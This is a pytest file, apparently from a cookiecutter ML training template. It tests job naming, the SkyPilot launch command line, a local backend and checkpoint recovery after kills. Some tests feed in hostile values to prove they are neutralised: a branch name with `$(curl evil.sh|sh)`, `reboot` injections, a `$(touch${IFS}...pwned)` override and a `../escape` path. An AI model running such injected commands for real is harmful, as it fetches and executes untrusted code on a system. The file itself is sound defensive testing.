"""`launch`: job names, the `sky jobs launch` command line, and the local backend, which runs
the task's own run section with bash and the SKYPILOT_* variables one node sees.

The run section's plumbing is checked with stand-in programs on PATH (fast, exact argument
lists); the recovery test runs the real trainer on the tiny model and kills it.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

from {{ cookiecutter.package_name }}.cli import smoke_overrides
from {{ cookiecutter.package_name }}.compute import launch, skytask
from {{ cookiecutter.package_name }}.config import ConfigError, load_params

PROJECT = Path(__file__).resolve().parents[1]
PARAMS = PROJECT / "params.yaml"
PACKAGE = "{{ cookiecutter.package_name }}"
TASK = PROJECT / "sky/train.yaml"
MULTINODE = PROJECT / "sky/train-multinode.yaml"
SKYPILOT_NAME = re.compile(r"[a-zA-Z]([-_.a-zA-Z0-9]*[a-zA-Z0-9])?")


def parse(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    launch.register(parser.add_subparsers(dest="command"))
    return parser.parse_args(["launch", *argv])


def launch_process(*argv: str, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", f"{PACKAGE}.compute.launch", *argv],
        cwd=PROJECT, capture_output=True, text=True, timeout=300, env={**os.environ, **env},
    )


@pytest.fixture
def no_ci_env(monkeypatch):
    for key in ("PR_NUMBER", "GITHUB_REF", "GITHUB_HEAD_REF", "GITHUB_REF_NAME", "GITHUB_SHA", "HF_TOKEN"):
        monkeypatch.delenv(key, raising=False)


# --------------------------------------------------------------------------- names


def test_job_name_from_pull_request_and_commit():
    name = launch.job_name("support-bot-train", {"pr": "42", "branch": "fix/x", "commit": "1a2b3c4d5e6f", "dirty": False})
    assert name == "support-bot-train-pr42-1a2b3c4"


def test_job_name_neutralises_hostile_branch_names():
    source = {"pr": "", "branch": "feat/$(curl evil.sh|sh);`id`'\"", "commit": "ABCDEF1234", "dirty": True}
    name = launch.job_name("support-bot-train", source)
    assert name == "support-bot-train-feat-curl-evil-sh-sh-id-abcdef1-dirty"
    assert SKYPILOT_NAME.fullmatch(name)


def test_job_name_fits_63_characters_and_keeps_the_commit():
    source = {"pr": "", "branch": "b" * 200, "commit": "0123456789abcdef", "dirty": False}
    for task_name in ("t" * 100, "9-starts-with-a-digit", "", "Ünïcode Tâsk"):
        name = launch.job_name(task_name, source)
        assert len(name) <= 63 and SKYPILOT_NAME.fullmatch(name), name
        assert name.endswith("-0123456")
    assert launch.job_name("9lives", source).startswith("job-9lives")


def test_source_state_prefers_github_variables():
    env = {"GITHUB_REF": "refs/pull/17/merge", "GITHUB_HEAD_REF": "topic", "GITHUB_SHA": "f00ba4" * 6}
    assert launch.source_state(env, cwd=PROJECT) == {"pr": "17", "branch": "topic", "commit": "f00ba4" * 6, "dirty": False}


# --------------------------------------------------------------------------- the sky backend


@pytest.fixture
def fake_sky(tmp_path, monkeypatch):
    """SKY_PYTHON pointing at a folder whose `sky` records its arguments and exits 0."""
    bin_dir = tmp_path / "sky-env/bin"
    bin_dir.mkdir(parents=True)
    record = tmp_path / "sky-calls.jsonl"
    script = bin_dir / "sky"
    script.write_text(
        f"#!{sys.executable}\nimport json, os, sys\n"
        f"with open({str(record)!r}, 'a') as f:\n"
        "    f.write(json.dumps({'argv': sys.argv[1:], 'hf_token_set': 'HF_TOKEN' in os.environ}) + '\\n')\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    (bin_dir / "python").symlink_to(sys.executable)
    monkeypatch.setenv("SKY_PYTHON", str(bin_dir / "python"))
    return lambda: [json.loads(line) for line in record.read_text().splitlines()] if record.exists() else []


def test_sky_backend_runs_sky_jobs_launch_with_an_argument_list(fake_sky, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)
    monkeypatch.setenv("HF_TOKEN", "hf_secret_value")
    monkeypatch.setenv("GITHUB_HEAD_REF", "feat/$(reboot)")
    monkeypatch.setenv("GITHUB_SHA", "abcdef0123456789")
    monkeypatch.setattr(launch, "plan_module", lambda: None)
    args = parse("--set", "train.max_steps=7", "--set", "lora.r=8", "--env", "MLFLOW_TRACKING_URI=http://mlflow:5000")
    assert launch.run(args) == 0
    (call,) = fake_sky()
    name = call["argv"][4]
    assert call["argv"][:5] == ["jobs", "launch", "-y", "-n", name] and name.endswith("-feat-reboot-abcdef0")
    assert call["argv"][-1] == "sky/train.yaml"
    envs = dict(a.split("=", 1) for flag, a in zip(call["argv"], call["argv"][1:], strict=False) if flag == "--env")
    assert envs["TRAIN_OVERRIDES"] == "--set train.max_steps=7 --set lora.r=8"
    assert envs["MLFLOW_TRACKING_URI"] == "http://mlflow:5000"
    assert envs["GIT_COMMIT"] == "abcdef0123456789" and "PR_NUMBER" not in envs  # not a PR: stays ""
    assert envs["GIT_BRANCH"] == "feat/-reboot-"  # a label, not something a shell would run
    # The secret goes by name; sky reads the value from its environment, never from argv.
    assert call["argv"][call["argv"].index("--secret") + 1] == "HF_TOKEN" and call["hf_token_set"]
    assert "hf_secret_value" not in json.dumps(call)


def test_sky_backend_refuses_an_over_budget_run_before_calling_sky(fake_sky, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)

    class OverBudget(Exception):
        pass

    def check_budget(params):
        raise OverBudget(f"estimated $99 > budget.max_run_usd={params.budget.max_run_usd}")

    monkeypatch.setattr(launch, "plan_module", lambda: SimpleNamespace(check_budget=check_budget))
    with pytest.raises(OverBudget, match="budget.max_run_usd=1.5"):
        launch.run(parse("--set", "budget.max_run_usd=1.5"))
    assert fake_sky() == []


def test_bad_overrides_stop_before_anything_runs(fake_sky, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)
    with pytest.raises(ConfigError, match="unknown key 'train.max_stepz'"):
        launch.run(parse("--set", "train.max_stepz=1"))
    with pytest.raises(ConfigError, match="cannot contain whitespace"):
        launch.run(parse("--set", "tracking.experiment=two words"))
    with pytest.raises(ConfigError, match="expected NAME=value"):
        launch.run(parse("--env", "1BAD=x"))
    with pytest.raises(skytask.TaskError, match="task file not found"):
        launch.run(parse("--task", "sky/nope.yaml"))
    with pytest.raises(ConfigError, match="SkyPilot names start with a letter"):
        launch.run(parse("--name", "run;reboot"))
    assert fake_sky() == []


def test_a_multi_gpu_config_that_cannot_work_stops_before_launch(fake_sky, no_ci_env, monkeypatch, tmp_path):
    monkeypatch.chdir(PROJECT)
    with pytest.raises(ConfigError, match=r"ACCELERATE_CONFIG='configs/accelerate/zero2.yaml': no such file \(choose one of: "
                                          r"configs/accelerate/ddp.yaml, configs/accelerate/fsdp.yaml\)"):
        launch.run(parse("--env", "ACCELERATE_CONFIG=configs/accelerate/zero2.yaml"))
    deepspeed = tmp_path / "zero2.yaml"
    deepspeed.write_text("distributed_type: DEEPSPEED\n")
    with pytest.raises(ConfigError, match="DeepSpeed is not supported"):
        launch.run(parse("--env", f"ACCELERATE_CONFIG={deepspeed}"))
    assert fake_sky() == []
    # LoRA and QLoRA with FSDP are valid choices.
    assert launch.resolve(parse("--env", "ACCELERATE_CONFIG=configs/accelerate/fsdp.yaml", "--set", "model.method=lora"))
    assert launch.resolve(parse("--env", "ACCELERATE_CONFIG=configs/accelerate/fsdp.yaml", "--set", "model.method=qlora"))


def test_dry_run_prints_the_command_the_task_and_what_skypilot_says(sky_python, tmp_path, no_ci_env):
    ci = {"GITHUB_SHA": "1234567890abcdef", "GITHUB_HEAD_REF": "main"}
    model = "Qwen/Qwen2.5-0.5B-Instruct"  # a hub id the VM can download, and the plan knows offline (its built-in table)
    sets = ["--set", "train.max_steps=5", "--set", f"model.base={model}"]
    result = launch_process("--dry-run", *sets, HF_TOKEN="hf_x", SKY_PYTHON=str(sky_python), HOME=str(tmp_path), **ci)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    if launch.plan_module() is not None:  # plan.py is optional for launch; when present, its table is shown
        assert "# plan:" in lines
    name = lines[0].removeprefix("# job name: ")
    assert name.endswith("-main-1234567")
    command = next(line for line in lines if line.startswith("# command: "))
    assert f"jobs launch -y -n {name} " in command
    assert f"'TRAIN_OVERRIDES=--set train.max_steps=5 --set model.base={model}'" in command
    assert "--secret HF_TOKEN" in command and "hf_x" not in result.stdout
    assert "# SkyPilot parses the task: ok" in lines
    task = yaml.safe_load("\n".join(line for line in lines if not line.startswith("#")))
    assert task["envs"]["TRAIN_OVERRIDES"] == f"--set train.max_steps=5 --set model.base={model}"
    assert (task["envs"]["GIT_BRANCH"], task["envs"]["GIT_COMMIT"]) == ("main", "1234567890abcdef")
    assert task["resources"]["job_recovery"]["recover_on_exit_codes"] == [75]


def test_a_local_model_directory_is_refused_for_the_cloud_before_sky(fake_sky, no_ci_env, monkeypatch, tiny_model_dir):
    monkeypatch.chdir(PROJECT)
    with pytest.raises(ConfigError, match=r"model.base='.*' is a directory on this machine: the cloud VM will not have it"):
        launch.run(parse("--set", f"model.base={tiny_model_dir}"))
    with pytest.raises(ConfigError, match="a path that does not exist here either"):
        launch.run(parse("--set", "model.base=./models/typo"))
    assert fake_sky() == []
    # The dry run refuses it too, in one line, exit 2; the local backend takes it (it runs here).
    result = launch_process("--dry-run", "--set", f"model.base={tiny_model_dir}")
    assert result.returncode == 2 and "the cloud VM will not have it" in result.stderr and "Traceback" not in result.stderr
    assert launch.resolve(parse("--backend", "local", "--set", f"model.base={tiny_model_dir}"))


def test_a_model_directory_uploaded_with_the_workdir_is_accepted(tmp_path):
    (tmp_path / "models/ours").mkdir(parents=True)
    (tmp_path / ".cache/tiny").mkdir(parents=True)
    (tmp_path / ".skyignore").write_text("# not uploaded\n.git/\n.cache/\n")
    launch.check_model_reaches_the_vm(str(tmp_path / "models/ours"), tmp_path)  # goes up with the code
    launch.check_model_reaches_the_vm("meta-llama/Llama-3.1-8B", tmp_path)  # a hub id
    with pytest.raises(ConfigError, match="under a path .skyignore keeps from the upload"):
        launch.check_model_reaches_the_vm(str(tmp_path / ".cache/tiny"), tmp_path)


def test_dry_run_exits_2_on_a_bad_override():
    result = launch_process("--dry-run", "--set", "lora.r=-3")  # SkyPilot is never asked
    assert result.returncode == 2
    assert "lora.r" in result.stderr and "Traceback" not in result.stderr


# --------------------------------------------------------------------------- the local node


def test_local_environment_is_what_one_skypilot_node_sees(tmp_path, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)
    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "")
    args = parse("--backend", "local", "--checkpoint-root", str(tmp_path / "ck"), "--set", "train.max_steps=3")
    resolved = launch.resolve(args)
    env = launch.local_environment(resolved, args)
    assert env["SKYPILOT_TASK_ID"] == f"local-{resolved['name']}"
    assert (env["SKYPILOT_NODE_RANK"], env["SKYPILOT_NODE_IPS"], env["SKYPILOT_NUM_NODES"]) == ("0", "127.0.0.1", "1")
    assert env["SKYPILOT_NUM_GPUS_PER_NODE"] == "0"
    assert json.loads(env["SKYPILOT_CLUSTER_INFO"]).keys() == {"cluster_name", "cloud", "region", "zone"}
    assert env["CHECKPOINT_ROOT"] == str((tmp_path / "ck").resolve())
    assert env["USE_SPOT"] == "true" and env["TRAIN_OVERRIDES"] == "--set train.max_steps=3"
    assert Path(env["VENV_BIN"], "python").exists()
    with pytest.raises(ConfigError, match="--task-id"):
        launch.local_environment(resolved, parse("--backend", "local", "--task-id", "../escape"))


STUB = """#!/usr/bin/env bash
{ printf '%s\\n' "$(basename "$0")" "$@"; echo '--'; } >> "$STUB_LOG"
"""


def run_section(task: Path, tmp_path: Path, argv=(), **node: str) -> tuple[int, list[list[str]]]:
    """The task's real run section through run_local, with stand-ins for python, accelerate and
    the CLI on PATH that only record their arguments. Returns (exit code, commands)."""
    stubs = tmp_path / "stub-bin"
    stubs.mkdir(exist_ok=True)
    for program in ("python", "accelerate", PACKAGE):
        (stubs / program).write_text(STUB)
        (stubs / program).chmod(0o755)
    log = tmp_path / "stub.log"
    log.unlink(missing_ok=True)
    args = parse("--backend", "local", "--task", str(task), "--checkpoint-root", str(tmp_path / "ck"), "--task-id", "job-1",
                 *argv)
    resolved = launch.resolve(args)
    env = {**launch.local_environment(resolved, args), "VENV_BIN": str(stubs), "STUB_LOG": str(log), **node}
    code = launch.run_local(resolved, env)
    commands, current = [], []
    for line in log.read_text().splitlines() if log.exists() else []:
        if line == "--":
            commands.append(current)
            current = []
        else:
            current.append(line)
    return code, commands


def test_run_section_passes_overrides_as_literal_arguments(tmp_path, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)
    hostile = "tracking.experiment=$(touch${IFS}" + str(tmp_path) + "/pwned)`id`;*"
    code, commands = run_section(TASK, tmp_path, ["--set", hostile, "--set", "lora.r=8"], SKYPILOT_NUM_GPUS_PER_NODE="1")
    assert code == 0
    out = str((tmp_path / "ck/job-1").resolve())
    assert commands == [
        [PACKAGE, "prepare", "--set", hostile, "--set", "lora.r=8"],
        ["python", "-m", PACKAGE, "train", "--set", hostile, "--set", "lora.r=8",
         "--set", f"checkpoint.dir={out}", "--set", f"train.output_dir={out}/outputs"],
        [PACKAGE, "evaluate", "--set", hostile, "--set", "lora.r=8", "--set", f"train.output_dir={out}/outputs"],
    ]
    assert not (tmp_path / "pwned").exists()
    # A recovery after training finished goes straight to evaluation.
    code, commands = run_section(TASK, tmp_path, ["--set", hostile, "--set", "lora.r=8"], SKYPILOT_NUM_GPUS_PER_NODE="1")
    assert code == 0 and [c[:2] for c in commands] == [[PACKAGE, "prepare"], [PACKAGE, "evaluate"]]
    # Other params: trained again.
    code, commands = run_section(TASK, tmp_path, ["--set", "lora.r=4"], SKYPILOT_NUM_GPUS_PER_NODE="1")
    assert code == 0 and [c[:4] for c in commands][1] == ["python", "-m", PACKAGE, "train"]


def test_run_section_uses_accelerate_for_several_gpus(tmp_path, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)
    code, commands = run_section(TASK, tmp_path, SKYPILOT_NUM_GPUS_PER_NODE="4")
    assert code == 0
    train = commands[1]
    assert train[:6] == ["accelerate", "launch", "--config_file", "configs/accelerate/ddp.yaml", "--num_processes", "4"]
    assert train[6:9] == ["-m", PACKAGE, "train"]


def test_multinode_run_section_builds_the_rendezvous_from_skypilot_variables(tmp_path, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)
    node = {"SKYPILOT_NUM_NODES": "2", "SKYPILOT_NUM_GPUS_PER_NODE": "4", "SKYPILOT_NODE_IPS": "10.0.0.7\n10.0.0.9"}
    code, commands = run_section(MULTINODE, tmp_path, SKYPILOT_NODE_RANK="1", **node)
    assert code == 0
    assert [c[0] for c in commands] == [PACKAGE, "accelerate"]  # a worker node does not evaluate
    accelerate = commands[1]
    flags = dict(zip(accelerate[2:14:2], accelerate[3:14:2], strict=True))
    assert flags == {
        "--config_file": "configs/accelerate/ddp.yaml", "--num_machines": "2", "--machine_rank": "1",
        "--num_processes": "8", "--main_process_ip": "10.0.0.7", "--main_process_port": "29500",
    }
    code, commands = run_section(MULTINODE, tmp_path, SKYPILOT_NODE_RANK="0", **node)
    assert [c[:2] for c in commands] == [[PACKAGE, "prepare"], ["accelerate", "launch"], [PACKAGE, "evaluate"]]


def test_a_failing_stage_fails_the_run(tmp_path, no_ci_env, monkeypatch):
    monkeypatch.chdir(PROJECT)
    stubs = tmp_path / "stub-bin"
    stubs.mkdir()
    (stubs / PACKAGE).write_text("#!/usr/bin/env bash\nexit 2\n")  # prepare rejects the data
    (stubs / PACKAGE).chmod(0o755)
    args = parse("--backend", "local", "--checkpoint-root", str(tmp_path / "ck"), "--task-id", "job-1")
    resolved = launch.resolve(args)
    assert launch.run_local(resolved, {**launch.local_environment(resolved, args), "VENV_BIN": str(stubs)}) == 2


# --------------------------------------------------------------------------- a real run, killed


def children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = entry.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(entry.parent.name))
    return found


def checkpoint_steps(task_dir: Path) -> list[int]:
    """Steps of the finished checkpoints (a `step-*` folder has its manifest once renamed into place)."""
    try:
        return sorted(int(p.parent.name.removeprefix("step-")) for p in task_dir.rglob("step-*/manifest.json"))
    except OSError:  # an old checkpoint was deleted while we looked; look again next time
        return []


def wait_until(condition, timeout=180.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.02)


def local_launch(tmp_path, tiny_model_dir, sample_data, steps: int, *launch_args: str):
    """`launch --backend local` of the tiny model: returns start(log_name) -> Popen, and the
    task's checkpoint folder."""
    root, task_id = tmp_path / "bucket", "recovery-test"
    sets = [*smoke_overrides(load_params(PARAMS)), f"model.base={tiny_model_dir}", f"data.path={sample_data}",
            f"data.prepared_dir={tmp_path / 'prepared'}", f"train.max_steps={steps}", "checkpoint.every_steps=2",
            "eval.generations=0"]
    argv = [sys.executable, "-m", f"{PACKAGE}.compute.launch", "--backend", "local", "--checkpoint-root", str(root),
            "--task-id", task_id, "--env", f"MLFLOW_TRACKING_URI=sqlite:///{tmp_path / 'mlflow.db'}", *launch_args,
            *[arg for s in sets for arg in ("--set", s)]]
    env = {**os.environ, "TRAIN_SAMPLE_LOG": str(tmp_path / "samples.log"), "CUDA_VISIBLE_DEVICES": ""}

    def start(log_name: str) -> subprocess.Popen:
        log = (tmp_path / log_name).open("w")
        return subprocess.Popen(argv, cwd=PROJECT, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)

    return start, root / task_id


def test_local_run_recovers_from_kill_and_sigterm_like_a_managed_job(tmp_path, tiny_model_dir, sample_data, no_ci_env):
    """The task's real run section trains the tiny model; SIGKILL (a hard preemption), then
    SIGTERM (a spot notice: checkpoint, exit 75), then a run to the end. Each rerun resumes
    from the checkpoints in <root>/<SKYPILOT_TASK_ID>, and it stays one MLflow run."""
    steps = 12
    start, task_dir = local_launch(tmp_path, tiny_model_dir, sample_data, steps)

    # 1. Hard preemption: everything dies at once, right after a checkpoint.
    first = start("run1.log")
    wait_until(lambda: checkpoint_steps(task_dir) or first.poll() is not None)
    assert first.poll() is None, (tmp_path / "run1.log").read_text()[-3000:]
    for group in children(first.pid):
        os.killpg(group, signal.SIGKILL)
    first.kill()
    first.wait()
    killed_at = max(checkpoint_steps(task_dir))
    assert killed_at < steps

    # 2. A spot notice: SIGTERM to launch, passed on; the trainer checkpoints and exits 75.
    second = start("run2.log")
    wait_until(lambda: max(checkpoint_steps(task_dir), default=0) > killed_at or second.poll() is not None)
    assert second.poll() is None, (tmp_path / "run2.log").read_text()[-3000:]
    second.send_signal(signal.SIGTERM)
    assert second.wait(timeout=120) == 75, (tmp_path / "run2.log").read_text()[-3000:]

    # 3. Run to the end.
    third = start("run3.log")
    assert third.wait(timeout=300) == 0, (tmp_path / "run3.log").read_text()[-3000:]

    starts = [int(line.split()[1]) for line in (tmp_path / "samples.log").read_text().splitlines() if line.startswith("start ")]
    assert len(starts) == 3 and starts[0] == 0
    assert killed_at <= starts[1] < starts[2] < steps, starts  # each rerun resumed, none started over
    outputs = task_dir / "outputs"
    assert (outputs / "adapter/adapter_model.safetensors").is_file()
    assert json.loads((outputs / "metrics.json").read_text())["eval_loss"] > 0
    with sqlite3.connect(tmp_path / "mlflow.db") as db:
        runs = db.execute("select count(*) from runs where lifecycle_stage = 'active'").fetchone()[0]
    assert runs == 1  # three segments, one MLflow run


def test_a_several_gpu_run_still_exits_75_after_a_spot_notice(tmp_path, tiny_model_dir, sample_data, no_ci_env):
    """With 2 "GPUs" the run section starts 2 processes through `accelerate launch` (CPU, gloo),
    which reports any failure as 1: the trainer's own 75 must still reach SkyPilot, or a spot
    notice would count as an error. Then the rerun resumes and finishes."""
    steps = 40
    start, task_dir = local_launch(tmp_path, tiny_model_dir, sample_data, steps, "--gpus", "2")
    run = start("run1.log")
    wait_until(lambda: checkpoint_steps(task_dir) or run.poll() is not None)
    assert run.poll() is None, (tmp_path / "run1.log").read_text()[-3000:]
    run.send_signal(signal.SIGTERM)
    assert run.wait(timeout=120) == 75, (tmp_path / "run1.log").read_text()[-3000:]
    log = (tmp_path / "run1.log").read_text()
    assert "2 processes" in log and "interrupted: stopped by signal" in log

    rerun = start("run2.log")
    assert rerun.wait(timeout=300) == 0, (tmp_path / "run2.log").read_text()[-3000:]
    starts = [int(line.split()[1]) for line in (tmp_path / "samples.log").read_text().splitlines() if line.startswith("start ")]
    assert starts[0] == 0 and 0 < starts[1] < steps, starts
